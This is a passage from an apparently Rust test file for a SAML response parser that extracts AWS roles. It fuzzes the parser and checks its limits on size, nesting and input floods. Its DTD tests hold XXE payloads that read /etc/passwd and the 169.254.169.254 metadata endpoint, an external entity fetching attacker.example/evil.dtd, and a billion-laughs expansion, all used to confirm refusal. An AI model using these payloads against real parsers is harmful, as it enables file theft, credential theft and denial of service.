 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<lolz>&lol9;</lolz>"#;
    let doctype_only = format!(
        "<!-- x --><!doctype Response>{}",
        OKTA.split_once("?>").unwrap().1
    );
    let entity_late = OKTA.replace("</saml2p:Response>", "<!ENTITY x 'y'></saml2p:Response>");
    let started = Instant::now();
    for input in [
        xxe.to_string(),
        b64(xxe),
        laughs.to_string(),
        b64(laughs),
        doctype_only,
        entity_late,
        format!(
            "<form><input name=SAMLResponse value='{}'></form>",
            b64(xxe)
        ),
    ] {
        let e = error_of(&input);
        assert_eq!(e.code, Code::SamlUnsafe, "{}", e.message);
        assert!(e.message.contains("DTD"), "{}", e.message);
    }
    assert!(started.elapsed().as_secs() < 2, "refusal must be quick");
}

#[test]
fn size_limits() {
    let big = vec![b'A'; MAX_INPUT_BYTES + 1];
    let e = error_of(&big);
    assert_eq!(e.code, Code::SamlTooLarge);
    assert!(e.message.contains("1024 KiB"), "{}", e.message);
    // checked before decoding: even garbage over the cap is "too large"
    assert_eq!(
        code_of(vec![0xffu8; MAX_INPUT_BYTES + 1]),
        Code::SamlTooLarge
    );
    // at the cap, whitespace is decoded normally
    assert_eq!(code_of(vec![b' '; MAX_INPUT_BYTES]), Code::SamlInvalid);

    // many small nodes below the byte cap hit the node cap
    let many = format!(
        "<samlp:Response xmlns:samlp=\"urn:oasis:names:tc:SAML:2.0:protocol\">{}</samlp:Response>",
        "<a/>".repeat(60_000)
    );
    assert!(many.len() < MAX_INPUT_BYTES);
    assert_eq!(code_of(many), Code::SamlTooLarge);
}

fn deep(n: usize) -> String {
    format!(
        "<samlp:Response xmlns:samlp=\"urn:oasis:names:tc:SAML:2.0:protocol\">{}{}</samlp:Response>",
        "<a>".repeat(n),
        "</a>".repeat(n)
    )
}

#[test]
fn deep_nesting_is_refused_without_recursion() {
    // A small stack proves neither the scan nor the parser recurse per level on this input
    // (roxmltree alone overflows 8 MB at 10k levels).
    let h = std::thread::Builder::new()
        .stack_size(1024 * 1024)
        .spawn(|| {
            let started = Instant::now();
            for input in [deep(100_000), b64(&deep(100_000)), "<a>".repeat(300_000)] {
                let e = error_of(&input);
                assert_eq!(e.code, Code::SamlUnsafe, "{}", e.message);
                assert!(e.message.contains("deep"), "{}", e.message);
            }
            assert!(started.elapsed().as_secs() < 5);
            // just under the cap is parsed (and has no assertion)
            assert_eq!(code_of(deep(parse::MAX_DEPTH - 1)), Code::SamlInvalid);
        })
        .unwrap();
    h.join().expect("no stack overflow");
}

/// xorshift64*: deterministic, no dependency.
struct Rng(u64);
impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }
    fn below(&mut self, n: usize) -> usize {
        if n == 0 {
            0
        } else {
            (self.next() % n as u64) as usize
        }
    }
}

#[test]
fn mutated_inputs_never_panic() {
    let seeds: Vec<Vec<u8>> = vec![
        OKTA.into(),
        ADFS.into(),
        KEYCLOAK.into(),
        PING.into(),
        ENCRYPTED.into(),
        b64(ENTRA).into_bytes(),
        fixture!("okta.b64").into(),
        fixture!("google.form-urlencoded.txt").into(),
        fixture!("entra-form.html").into(),
        fixture!("keycloak-form.html").into(),
    ];
    let tokens: &[&[u8]] = &[
        b"<",
        b">",
        b"/>",
        b"</",
        b"\"",
        b"'",
        b"&",
        b"&#x2b;",
        b"<!--",
        b"<![CDATA[",
        b"<!DOCTYPE x>",
        b"=",
        b"%",
        b"%2B",
        b":",
        b",",
        b"arn:",
        b"\xff",
        b"\xe2\x82",
        b"\0",
        b"SAMLResponse=",
        b"<input ",
        b"xmlns:a='x'",
    ];
    let mut rng = Rng(0x00c0_ffee_d0c5_a11e);
    let mut ok = 0;
    for i in 0..3000 {
        let mut b = seeds[i % seeds.len()].clone();
        for _ in 0..=rng.below(4) {
            let len = b.len();
            match rng.below(7) {
                0 => b.truncate(rng.below(len + 1)),
                1 if len > 0 => {
                    let p = rng.below(len);
                    b[p] = rng.next() as u8;
                }
                2 => {
                    let t = tokens[rng.below(tokens.len())];
                    let p = rng.below(len + 1);
                    b.splice(p..p, t.iter().copied());
                }
                3 if len > 0 => {
                    let p = rng.below(len);
                    let q = (p + rng.below(64)).min(len);
                    b.drain(p..q);
                }
                4 if len > 0 => {
                    let p = rng.below(len);
                    let q = (p + rng.below(200)).min(len);
                    let chunk = b[p..q].to_vec();
                    let at = rng.below(len + 1);
                    b.splice(at..at, chunk);
                }
                5 if len > 0 => {
                    let p = rng.below(len);
                    b[p] ^= 1 << rng.below(8);
                }
                _ => {}
            }
        }
        match parse_response(&b) {
            Ok(a) => {
                ok += 1;
                assert!(!a.roles.is_empty());
                let _ = a.inspect_json();
            }
            Err(e) => assert_one_line_no_secret(&e.message),
        }
    }
    // some mutations are harmless (inside signatures, whitespace): parsing still works
    assert!(ok > 100, "{ok}");
}

// ---- helpers building small responses ----

fn role_attr(values: &[&str]) -> String {
    let vals: String = values
        .iter()
        .map(|v| format!("<saml:AttributeValue>{v}</saml:AttributeValue>"))
        .collect();
    format!("<saml:AttributeStatement><saml:Attribute Name=\"https://aws.amazon.com/SAML/Attributes/Role\">{vals}</saml:Attribute></saml:AttributeStatement>")
}

/// A Response with one Assertion holding `subject` and `statements`, no optional parts.
fn minimal(subject: &str, statements: &str) -> String {
    format!(
        "<samlp:Response xmlns:samlp=\"urn:oasis:names:tc:SAML:2.0:protocol\" xmlns:saml=\"urn:oasis:names:tc:SAML:2.0:assertion\"><saml:Assertion>{subject}{statements}</saml:Assertion></samlp:Response>"
    )
}

// ---- refusals: bounds, floods at the size cap ----

#[test]
fn attribute_and_namespace_bounds_are_exact() {
    let pair = "arn:aws:iam::123456789012:role/R,arn:aws:iam::123456789012:saml-provider/P";
    let doc = minimal("", &role_attr(&[pair]));
    let on_assertion =
        |extra: String| doc.replace("<saml:Assertion>", &format!("<saml:Assertion{extra}>"));

    let attrs = |n: usize| (0..n).map(|i| format!(" a{i}=\"{i}\"")).collect::<String>();
    let a = parse_response(on_assertion(attrs(parse::MAX_ATTRIBUTES)).as_bytes()).unwrap();
    assert_eq!(a.roles[0].name, "R");
    let e = error_of(on_assertion(attrs(parse::MAX_ATTRIBUTES + 1)));
    assert_eq!(e.code, Code::SamlUnsafe, "{}", e.message);
    assert!(
        e.message.contains("more than 64 attributes"),
        "{}",
        e.message
    );
    // quoted `=`, `>` and `xmlns` are values, not attributes or declarations
    let quoted = format!(
        " q=\"{}\" r='>{}'",
        "= xmlns:x".repeat(100),
        "=".repeat(100)
    );
    assert!(parse_response(on_assertion(quoted).as_bytes()).is_ok());

    // The Response declares samlp and saml; the Assertion adds the rest.
    let decls = |n: usize| {
        (0..n)
            .map(|i| format!(" xmlns:n{i}=\"urn:n:{i}\""))
            .collect::<String>()
    };
    let a = parse_response(on_assertion(decls(parse::MAX_NAMESPACES - 2)).as_bytes()).unwrap();
    assert_eq!(a.roles[0].name, "R");
    let e = error_of(on_assertion(decls(parse::MAX_NAMESPACES - 1)));
    assert_eq!(e.code, Code::SamlUnsafe, "{}", e.message);
    assert!(
        e.message
            .contains("more than 32 namespace declarations in scope"),
        "{}",
        e.message
    );
    // declarations in sibling elements are not in scope together
    let siblings: String = (0..40)
        .map(|i| format!("<saml:Attribute Name=\"x{i}\"{}/>", decls(20)))
        .collect();
    let a = parse_response(
        doc.replace(
            "<saml:AttributeStatement>",
            &format!("<saml:AttributeStatement>{siblings}"),
        )
        .as_bytes(),
    )
    .unwrap();
    assert_eq!(a.roles.len(), 1);
    // the nesting bound is exact too (MAX_DEPTH - 1 is parsed: deep_nesting_is_refused_...)
    assert_eq!(code_of(deep(parse::MAX_DEPTH)), Code::SamlUnsafe);
}

/// `head`, then `unit(0)`, `unit(1)`, ... while they fit, then `tail`: `len` bytes at most.
fn flood(len: usize, head: &str, unit: impl Fn(usize) -> String, tail: &str) -> String {
    let mut s = head.to_string();
    for i in 0.. {
        let u = unit(i);
        if s.len() + u.len() + tail.len() > len {
            break;
        }
        s.push_str(&u);
    }
    s.push_str(tail);
    s
}

/// A quadratic path on a 1 MiB flood takes minutes; linear ones take milliseconds even in a
/// debug build. 5 s tells them apart on a loaded 2-core machine, where 1 s did not always.
const LINEAR_BOUND_MS: u128 = 5000;

#[test]
fn floods_up_to_the_size_cap_are_answered_quickly() {
    const RESP: &str = "<samlp:Response xmlns:samlp=\"urn:oasis:names:tc:SAML:2.0:protocol\" xmlns:saml=\"urn:oasis:names:tc:SAML:2.0:assertion\"";
    const END: &str = "</samlp:Response>";
    let cap = MAX_INPUT_BYTES;
    let quarter = MAX_INPUT_BYTES / 4;
    let roles_head = minimal("", &role_attr(&["ROLES"]));
    let (before_roles, after_roles) = roles_head.split_once("ROLES").unwrap();
    let cases: Vec<(&str, String, Code)> = vec![
        // roxmltree 0.20 checks duplicate attributes and resolves namespaces in quadratic
        // time: these took minutes before the pre-parse scan bounded them.
        (
            "distinct attributes",
            flood(cap, RESP, |i| format!(" a{i:x}=\"\""), "/>"),
            Code::SamlUnsafe,
        ),
        (
            "namespace declarations",
            flood(cap, RESP, |i| format!(" xmlns:p{i:x}=\"u\""), "/>"),
            Code::SamlUnsafe,
        ),
        (
            "namespace fan-out",
            flood(
                cap,
                &format!(
                    "{RESP}{}>",
                    (0..40)
                        .map(|i| format!(" xmlns:p{i}=\"u{i}\""))
                        .collect::<String>()
                ),
                |_| "<a xmlns:q=\"v\"/>".into(),
                END,
            ),
            Code::SamlUnsafe,
        ),
        (
            "DOCTYPE at the end",
            flood(
                cap,
                &format!("{RESP}>"),
                |_| "<a/>".into(),
                "<!DOCTYPE x></samlp:Response>",
            ),
            Code::SamlUnsafe,
        ),
        (
            "nodes",
            flood(cap, &format!("{RESP}>"), |_| "<!---->".into(), END),
            Code::SamlTooLarge,
        ),
        (
            "one long attribute value",
            flood(cap, &format!("{RESP} ID=\""), |_| "x".into(), "\"/>"),
            Code::SamlInvalid,
        ),
        (
            "character references",
            flood(cap, before_roles, |_| "&amp;&#x41;".into(), after_roles),
            Code::SamlNoRoles,
        ),
        (
            "unclosed quote",
            flood(cap, "<samlp:Response a='", |_| "<b>".into(), ""),
            Code::SamlInvalid,
        ),
        ("open brackets", "<".repeat(cap), Code::SamlInvalid),
        ("base64", "QUFB".repeat(cap / 4), Code::SamlInvalid),
        (
            "percent-encoded form",
            flood(cap, "SAMLResponse=", |_| "%41".into(), ""),
            Code::SamlInvalid,
        ),
        (
            "form fields",
            flood(cap, "<html>", |i| format!("<input name=f{i} value=x>"), ""),
            Code::SamlInvalid,
        ),
        (
            "escaped form value",
            flood(
                cap,
                "<form><input name=SAMLResponse value=\"",
                |_| "&#x2b;".into(),
                "\">",
            ),
            Code::SamlInvalid,
        ),
        (
            "comment openers",
            flood(cap, "<html>", |_| "<!--".into(), ""),
            Code::SamlInvalid,
        ),
    ];
    // Within the bounds, at a quarter of the cap: linear, so well under a second even so.
    let within: Vec<(&str, String, Code)> = vec![
        (
            "namespace fan-out within the bound",
            flood(
                quarter,
                &format!(
                    "{RESP}{}>",
                    (0..29)
                        .map(|i| format!(" xmlns:p{i}=\"u{i}\""))
                        .collect::<String>()
                ),
                |_| "<a xmlns:q=\"v\"/>".into(),
                END,
            ),
            Code::SamlInvalid,
        ),
        (
            "attributes within the bound",
            flood(
                quarter,
                &format!("{RESP}>"),
                |_| {
                    format!(
                        "<a{}/>",
                        (0..parse::MAX_ATTRIBUTES)
                            .map(|i| format!(" a{i:x}=\"\""))
                            .collect::<String>()
                    )
                },
                END,
            ),
            Code::SamlInvalid,
        ),
    ];
    for (name, input, code) in cases.into_iter().chain(within) {
        assert!(input.len() <= cap, "{name}");
        let started = Instant::now();
        let e = error_of(&input);
        let took = started.elapsed();
        assert_eq!(e.code, code, "{name}: {}", e.message);
        assert!(took.as_millis() < LINEAR_BOUND_MS, "{name}: {took:?}");
    }
    // A valid response with over 10k distinct roles (de-duplication used to be quadratic).
    let pair = |i: usize| {
        format!("arn:aws:iam::123456789012:role/R{i},arn:aws:iam::123456789012:saml-provider/P,")
    };
    let many = flood(cap, before_roles, pair, after_roles);
    let started = Instant::now();
    let a = parse_response(many.as_bytes()).unwrap();
    let took = started.elapsed();
    assert!(a.roles.len() > 10_000, "{}", a.roles.len());
    assert!(took.as_millis() < LINEAR_BOUND_MS, "{took:?}");
}

// ---- property tests ----

/// Property tests (proptest): any input ends in roles or a coded one-line error; valid
/// responses keep their roles under harmless edits, random role values and every transport
/// wrapping; the refusals (DTDs, size, nesting) come quickly with their documented codes.
mod properties {
    use super::*;
    use proptest::prelude::*;
    use proptest::sample::Index;
    use proptest::test_runner::Config;
    use std::time::Duration;

    /// Modest case counts keep `cargo test` fast on 2 cores; failures are printed (with the
    /// shrunk input), not written as regression files next to the sources.
    fn config(cases: u32) -> Config {
        Config {
            cases,
            failure_persistence: None,
            ..Config::default()
        }
    }

    /// The refusals take milliseconds; a second leaves room for a loaded debug build.
    const QUICK: Duration = Duration::from_secs(1);

    const SAML_CODES: [Code; 5] = [
        Code::SamlInvalid,
        Code::SamlEncrypted,
        Code::SamlNoRoles,
        Code::SamlTooLarge,
        Code::SamlUnsafe,
    ];

    /// The roles, or the code of an error checked to be a SAML code with a one-line message.
    fn outcome(input: &[u8]) -> std::result::Result<Vec<Role>, Code> {
        match parse_response(input) {
            Ok(a) => {
                assert!(!a.roles.is_empty(), "parsed without roles");
                let _ = a.inspect_json();
                Ok(a.roles)
            }
            Err(e) => {
                assert!(SAML_CODES.contains(&e.code), "{:?}: {}", e.code, e.message);
                assert!(
                    !e.message.is_empty() && !e.message.contains('\n') && e.message.len() < 600,
                    "{:?}",
                    e.message
                );
                Err(e.code)
            }
        }
    }

    /// The error `input` gives (checked as `error_of` does) and how long that took.
    fn timed_error(input: &[u8]) -> (crate::error::Error, Duration) {
        let started = Instant::now();
        let r = parse_response(input);
        let took = started.elapsed();
        let e = r.expect_err("expected an error");
        assert_one_line_no_secret(&e.message);
        (e, took)
    }

    /// How a response reaches Dockpass: as it is, or in a shape IdPs, browsers and users make.
    #[derive(Clone, Copy, Debug)]
    enum Wrap {
        Raw,
        Base64,
        Base64Lines,
        UrlSafe,
        FormBody,
        Html,
        HtmlEscaped,
        Quoted,
    }

    fn any_wrap() -> impl Strategy<Value = Wrap> {
        prop::sample::select(vec![
            Wrap::Raw,
            Wrap::Base64,
            Wrap::Base64Lines,
            Wrap::UrlSafe,
            Wrap::FormBody,
            Wrap::Html,
            Wrap::HtmlEscaped,
            Wrap::Quoted,
        ])
    }

    fn wrap(w: Wrap, xml: &[u8]) -> Vec<u8> {
        let std = base64::engine::general_purpose::STANDARD.encode(xml);
        match w {
            Wrap::Raw => xml.to_vec(),
            Wrap::Base64 => std.into_bytes(),
            Wrap::Base64Lines => std
                .as_bytes()
                .chunks(76)
                .map(|c| std::str::from_utf8(c).unwrap())
                .collect::<Vec<_>>()
                .join("\r\n")
                .into_bytes(),
            Wrap::UrlSafe => base64::engine::general_purpose::URL_SAFE_NO_PAD
                .encode(xml)
                .into_bytes(),
            Wrap::FormBody => format!(
                "RelayState=https%3A%2F%2Fconsole.aws.amazon.com%2F&SAMLResponse={}&x=1",
                std.replace('+', "%2B").replace('/', "%2F").replace('=', "%3D")
            )
            .into_bytes(),
            Wrap::Html => format!(
                "<!DOCTYPE html>\n<html><body onload=\"document.forms[0].submit()\"><form method=\"post\" action=\"{AWS_ACS}\"><input type=\"hidden\" name=\"RelayState\" value=\"\"/><input type=\"hidden\" name=\"SAMLResponse\" value=\"{std}\"/></form></body></html>"
            )
            .into_bytes(),
            Wrap::HtmlEscaped => format!(
                "<form><input name='SAMLResponse' value='{}'></form>",
                std.replace('+', "&#x2b;").replace('=', "&#61;").replace('/', "&#x2F;")
            )
            .into_bytes(),
            Wrap::Quoted => format!("\"{std}\"\n").into_bytes(),
        }
    }

    /// Pieces of every syntax the decoder and parser meet.
    const TOKENS: &[&str] = &[
        "<",
        ">",
        "/>",
        "</",
        "<?xml version='1.0'?>",
        "?>",
        "<!--",
        "-->",
        "<![CDATA[",
        "]]>",
        "<!DOCTYPE x>",
        "<!ENTITY",
        "&amp;",
        "&#x2b;",
        "&#0;",
        "&#x110000;",
        "&bogus;",
        "\"",
        "'",
        "=",
        " ",
        "\n",
        ":",
        ",",
        "%2B",
        "%",
        "\u{feff}",
        "\u{85}",
        "é",
        "\0",
        "samlp:Response",
        "saml:Assertion",
        "saml:Attribute",
        "saml:AttributeValue",
        "saml:EncryptedAssertion",
        "samlp:StatusCode",
        " xmlns:samlp=\"urn:oasis:names:tc:SAML:2.0:protocol\"",
        " xmlns:saml=\"urn:oasis:names:tc:SAML:2.0:assertion\"",
        " xmlns=\"urn:oasis:names:tc:SAML:2.0:assertion\"",
        " Name=\"https://aws.amazon.com/SAML/Attributes/Role\"",
        " NotOnOrAfter=\"2099-01-01T00:00:00Z\"",
        "arn:aws:iam::123456789012:role/R",
        "arn:aws:iam::123456789012:saml-provider/P",
        "SAMLResponse=",
        "<input name=SAMLResponse value=",
        "<form>",
        "<html>",
        "PHNhbWxwOlJlc3BvbnNl",
        "AAAA",
        "====",
    ];

    const XML_FIXTURES: [&str; 13] = [
        ADFS,
        OKTA,
        ENTRA,
        GOOGLE,
        KEYCLOAK,
        PING,
        AWS_CN,
        AWS_US_GOV,
        EXPIRED,
        ENCRYPTED,
        NO_ROLES,
        BAD_ROLES,
        STATUS_RESPONDER,
    ];

    /// An edit that may break anything.
    #[derive(Clone, Debug)]
    enum Edit {
        Insert(Index, &'static str),
        Delete(Index, usize),
        Copy(Index, Index, usize),
        Byte(Index, u8),
    }

    fn any_edit() -> impl Strategy<Value = Edit> {
        prop_oneof![
            (any::<Index>(), prop::sample::select(TOKENS)).prop_map(|(i, t)| Edit::Insert(i, t)),
            (any::<Index>(), 0..64usize).prop_map(|(i, n)| Edit::Delete(i, n)),
            (any::<Index>(), any::<Index>(), 0..256usize).prop_map(|(a, b, n)| Edit::Copy(a, b, n)),
            (any::<Index>(), any::<u8>()).prop_map(|(i, b)| Edit::Byte(i, b)),
        ]
    }

    fn apply(doc: &mut Vec<u8>, e: &Edit) {
        let len = doc.len();
        match *e {
            Edit::Insert(i, t) => {
                let p = i.index(len + 1);
                doc.splice(p..p, t.bytes());
            }
            Edit::Delete(i, n) => {
                let p = i.index(len + 1);
                doc.drain(p..(p + n).min(len));
            }
            Edit::Copy(from, to, n) if len > 0 => {
                let p = from.index(len);
                let chunk = doc[p..(p + n).min(len)].to_vec();
                let at = to.index(len + 1);
                doc.splice(at..at, chunk);
            }
            Edit::Byte(i, b) if len > 0 => {
                let p = i.index(len);
                doc[p] = b;
            }
            _ => {}
        }
    }

    /// Text of any XML character, sometimes plain ASCII.
    fn xml_text() -> impl Strategy<Value = String> {
        prop_oneof![
            "[ -~]{0,24}",
            prop::collection::vec(any::<char>(), 0..24).prop_map(|cs| {
                cs.into_iter()
                    .filter(|&c| {
                        matches!(c, '\t' | '\n' | '\r')
                            || (c >= ' ' && c != '\u{fffe}' && c != '\u{ffff}')
                    })
                    .collect()
            }),
        ]
    }

    fn escape(s: &str) -> String {
        s.replace('&', "&amp;")
            .replace('<', "&lt;")
            .replace('>', "&gt;")
            .replace('"', "&quot;")
            .replace('\'', "&apos;")
    }

    /// Where harmless edits go in a (well-formed, simple) fixture: its tags from the root's
    /// start tag on, as the offsets of their `<` and `>`, and the values of the attributes
    /// Dockpass does not read, as the offsets inside their quotes.
    struct Layout {
        tags: Vec<(usize, usize)>,
        free_values: Vec<(usize, usize)>,
    }

    fn layout(xml: &str) -> Layout {
        let (mut tags, mut free_values) = (Vec::new(), Vec::new());
        let mut i = 0;
        while let Some(o) = xml[i..].find('<') {
            let s = i + o;
            let rest = &xml[s..];
            let skip = [("<![CDATA[", "]]>"), ("<!--", "-->"), ("<?", "?>")]
                .iter()
                .find(|(open, _)| rest.starts_with(open))
                .map(|(_, close)| rest.find(close).unwrap() + close.len());
            if let Some(n) = skip {
                i = s + n;
                continue;
            }
            let e = s + rest.find('>').unwrap();
            tags.push((s, e));
            if !rest.starts_with("</") {
                let tag = &xml[s..e];
                let mut k = tag
                    .find(|c: char| c.is_ascii_whitespace() || c == '/')
                    .unwrap_or(tag.len());
                while let Some(eq) = tag[k..].find('=') {
                    let name = tag[k..k + eq].trim();
                    let q_at = k + eq + 1 + tag[k + eq + 1..].find(['"', '\'']).unwrap();
                    let q = tag.as_bytes()[q_at] as char;
                    let v = q_at + 1;
                    let v_end = v + tag[v..].find(q).unwrap();
                    let read = matches!(name, "Name" | "NotOnOrAfter" | "Value" | "Method");
                    if !read && !name.starts_with("xmlns") {
                        free_values.push((s + v, s + v_end));
                    }
                    k = v_end + 1;
                }
            }
            i = e + 1;
        }
        Layout { tags, free_values }
    }

    /// An edit that keeps a response's meaning: a new value for an attribute Dockpass does
    /// not read, a comment or a foreign empty element after a tag, whitespace inside a tag.
    #[derive(Clone, Debug)]
    enum Harmless {
        Value(Index, String),
        Comment(Index, String),
        Element(Index, String),
        Space(Index, &'static str),
    }

    fn any_harmless() -> impl Strategy<Value = Harmless> {
        prop_oneof![
            (any::<Index>(), xml_text()).prop_map(|(i, s)| Harmless::Value(i, s)),
            (any::<Index>(), xml_text()).prop_map(|(i, s)| Harmless::Comment(i, s)),
            (any::<Index>(), xml_text()).prop_map(|(i, s)| Harmless::Element(i, s)),
            (
                any::<Index>(),
                prop::sample::select(vec![" ", "\n", "\t", "\r\n", "  \n\t"])
            )
                .prop_map(|(i, s)| Harmless::Space(i, s)),
        ]
    }

    fn apply_harmless(xml: &str, edits: &[Harmless]) -> String {
        let l = layout(xml);
        let b = xml.as_bytes();
        // (offset, bytes replaced, new text); offsets never fall inside another edit's range
        let mut changes: Vec<(usize, usize, String)> = Vec::new();
        for e in edits {
            match e {
                Harmless::Value(i, s) if !l.free_values.is_empty() => {
                    let (a, z) = l.free_values[i.index(l.free_values.len())];
                    if !changes.iter().any(|c| c.0 == a) {
                        changes.push((a, z - a, escape(s)));
                    }
                }
                // after any tag but the root's end tag
                Harmless::Comment(i, s) => {
                    let (_, e) = l.tags[i.index(l.tags.len() - 1)];
                    changes.push((e + 1, 0, format!("<!--{}-->", s.replace('-', "_"))));
                }
                Harmless::Element(i, s) => {
                    let (_, e) = l.tags[i.index(l.tags.len() - 1)];
                    let el = format!(
                        "<probe:x xmlns:probe=\"urn:example:probe\" note=\"{}\"/>",
                        escape(s)
                    );
                    changes.push((e + 1, 0, el));
                }
                Harmless::Space(i, s) => {
                    let (_, e) = l.tags[i.index(l.tags.len())];
                    let at = if b[e - 1] == b'/' { e - 1 } else { e };
                    changes.push((at, 0, s.to_string()));
                }
                _ => {}
            }
        }
        changes.sort_by_key(|c| std::cmp::Reverse(c.0));
        let mut out = xml.to_string();
        for (at, n, text) in changes {
            out.replace_range(at..at + n, &text);
        }
        out
    }

    /// A valid role,provider pair in one partition, in either order, with whitespace.
    fn valid_pair() -> impl Strategy<Value = (String, Role)> {
        (
            prop::sample::select(vec!["aws", "aws-cn", "aws-us-gov", "aws-iso-b", "aws-eusc"]),
            "[0-9]{12}",
            "[0-9]{12}",
            prop::collection::vec("[A-Za-z0-9_.-]{1,12}", 0..3),
            "[A-Za-z0-9+=.@_-]([A-Za-z0-9+=,.@_-]{0,62}[A-Za-z0-9+=.@_-])?",
            "[A-Za-z0-9._-]{1,32}",
            any::<bool>(),
            prop::sample::select(vec!["", " ", "\n  ", "\t"]),
        )
            .prop_map(
                |(
                    partition,
                    account,
                    provider_account,
                    segments,
                    name,
                    provider,
                    provider_first,
                    ws,
                )| {
                    let path = if segments.is_empty() {
                        "/".to_string()
                    } else {
                        format!("/{}/", segments.join("/"))
                    };
                    let role_arn = format!("arn:{partition}:iam::{account}:role{path}{name}");
                    let principal_arn =
                        format!("arn:{partition}:iam::{provider_account}:saml-provider/{provider}");
                    let value = if provider_first {
                        format!("{ws}{principal_arn},{ws}{role_arn}{ws}")
                    } else {
                        format!("{ws}{role_arn}{ws},{principal_arn}{ws}")
                    };
                    let role = Role {
                        role_arn,
                        principal_arn,
                        account,
                        name,
                        path,
                        partition: partition.to_string(),
                    };
                    (value, role)
                },
            )
    }

    /// Values that are no valid role,provider pair (the parser skips them).
    const DECOYS: &[&str] = &[
        "",
        "garbage",
        "arn:aws:iam::123456789012:role/OnlyARole",
        "arn:aws:iam::12345:role/R,arn:aws:iam::12345:saml-provider/P",
        "arn:aws:iam::123456789012:role/R,arn:aws-cn:iam::123456789012:saml-provider/P",
        "arn:aws:iam::123456789012:role/bad name,arn:aws:iam::123456789012:saml-provider/P",
        "arn:aws:iam::123456789012:user/U,arn:aws:iam::123456789012:saml-provider/P",
        "arn:aws:s3:::bucket,arn:aws:iam::123456789012:saml-provider/P",
        "arn:aws:iam::123456789012:role/R,arn:aws:iam::123456789012:saml-provider/",
        "arn:aws:iam::123456789012:role/R,arn:aws:iam::123456789012:saml-provider/P,extra",
    ];

    /// Each value is a valid pair or a decoy.
    fn role_value() -> impl Strategy<Value = (String, Option<Role>)> {
        prop_oneof![
            3 => valid_pair().prop_map(|(v, r)| (v, Some(r))),
            1 => prop::sample::select(DECOYS).prop_map(|d| (d.to_string(), None)),
        ]
    }

    /// `xml` with its (only) Role attribute holding `values`, in the fixture's own prefix.
    fn with_role_values(xml: &str, values: &[String], cdata: bool) -> String {
        let name_at = xml
            .find("Name=\"https://aws.amazon.com/SAML/Attributes/Role\"")
            .unwrap();
        let open = xml[..name_at].rfind('<').unwrap();
        let tag_name = xml[open + 1..name_at].split_whitespace().next().unwrap();
        let prefix = tag_name.strip_suffix("Attribute").unwrap();
        let content = name_at + xml[name_at..].find('>').unwrap() + 1;
        let close = content
            + xml[content..]
                .find(&format!("</{prefix}Attribute>"))
                .unwrap();
        let vals: String = values
            .iter()
            .map(|v| {
                let v = if cdata {
                    format!("<![CDATA[{v}]]>")
                } else {
                    escape(v)
                };
                format!("<{prefix}AttributeValue>{v}</{prefix}AttributeValue>")
            })
            .collect();
        format!("{}{vals}{}", &xml[..content], &xml[close..])
    }

    /// Deep nesting in several styles: `depth` elements below the Response.
    fn nested(depth: usize, style: usize) -> String {
        let (open, close) = match style {
            0 => ("<a>".to_string(), "</a>"),
            1 => ("<x:e>".to_string(), "</x:e>"),
            2 => (
                "<a b=\"1\" c='&gt;'><!-- c --><?p i?><e/>".to_string(),
                "</a>",
            ),
            _ => (
                "<saml:AttributeValue>\n".to_string(),
                "</saml:AttributeValue>",
            ),
        };
        format!(
            "<samlp:Response xmlns:samlp=\"urn:oasis:names:tc:SAML:2.0:protocol\" xmlns:saml=\"urn:oasis:names:tc:SAML:2.0:assertion\" xmlns:x=\"urn:x\">{}<![CDATA[<a><a>]]>{}</samlp:Response>",
            open.repeat(depth),
            close.repeat(depth)
        )
    }

    /// A DTD construct: DOCTYPE with an internal subset, or a declaration on its own.
    fn dtd() -> impl Strategy<Value = String> {
        let subsets = vec![
            "".to_string(),
            "<!ENTITY xxe SYSTEM \"file:///etc/passwd\">".to_string(),
            "<!ENTITY xxe PUBLIC \"-//X//EN\" \"http://169.254.169.254/latest/meta-data/\">"
                .to_string(),
            "<!ENTITY % remote SYSTEM \"http://attacker.example/evil.dtd\"> %remote;".to_string(),
            format!("<!ENTITY a \"{}\">", "a".repeat(10_000)),
            (1..10)
                .map(|i| {
                    format!(
                        "<!ENTITY lol{i} \"{}\">",
                        format!("&lol{};", i - 1).repeat(10)
                    )
                })
                .collect::<String>()
                .replace("&lol0;", "lol"),
            "<!ELEMENT x ANY><!ATTLIST x y CDATA #IMPLIED>".to_string(),
        ];
        (
            prop::sample::select(vec![
                "DOCTYPE", "doctype", "DocType", "ENTITY", "entity", "Entity",
            ]),
            "[a-gi-z][a-z0-9:]{0,7}",
            prop::sample::select(subsets),
            prop::sample::select(vec![" ", "\n", "\t  "]),
        )
            .prop_map(|(keyword, name, subset, ws)| {
                if keyword.eq_ignore_ascii_case("doctype") {
                    format!("<!{keyword}{ws}{name}{ws}[{ws}{subset}{ws}]>")
                } else {
                    format!("<!{keyword}{ws}{name}{ws}SYSTEM \"file:///etc/passwd\">")
                }
            })
    }

    proptest! {
        #![proptest_config(config(512))]

        #[test]
        fn any_bytes_end_in_roles_or_a_coded_one_line_error(
            input in prop::collection::vec(any::<u8>(), 0..2048),
        ) {
            let _ = outcome(&input);
        }

        #[test]
        fn any_token_soup_in_any_wrapping_too(
            in_response in any::<bool>(),
            parts in prop::collection::vec(prop::sample::select(TOKENS), 0..80),
            w in any_wrap(),
        ) {
            let head = if in_response { minimal("", "").replace("</saml:Assertion></samlp:Response>", "") } else { String::new() };
            let _ = outcome(&wrap(w, format!("{head}{}", parts.concat()).as_bytes()));
        }

        #[test]
        fn edited_fixtures_in_any_wrapping_too(
            doc in prop::sample::select(XML_FIXTURES.to_vec()),
            edits in prop::collection::vec(any_edit(), 1..6),
            w in any_wrap(),
        ) {
            let mut b = doc.as_bytes().to_vec();
            for e in &edits {
                apply(&mut b, e);
            }
            let _ = outcome(&wrap(w, &b));
        }
    }

    proptest! {
        #![proptest_config(config(256))]

        #[test]
        fn harmless_edits_and_any_wrapping_keep_the_roles(
            i in 0..9usize,
            edits in prop::collection::vec(any_harmless(), 0..8),
            w in any_wrap(),
        ) {
            let all = fixtures();
            let (name, xml, _) = &all[i];
            let want = parse_response(xml.as_bytes()).unwrap().roles;
            let edited = apply_harmless(xml, &edits);
            match outcome(&wrap(w, edited.as_bytes())) {
                Ok(roles) => prop_assert_eq!(roles, want, "{}", name),
                Err(code) => prop_assert!(false, "{name}: {code:?} for {edited}"),
            }
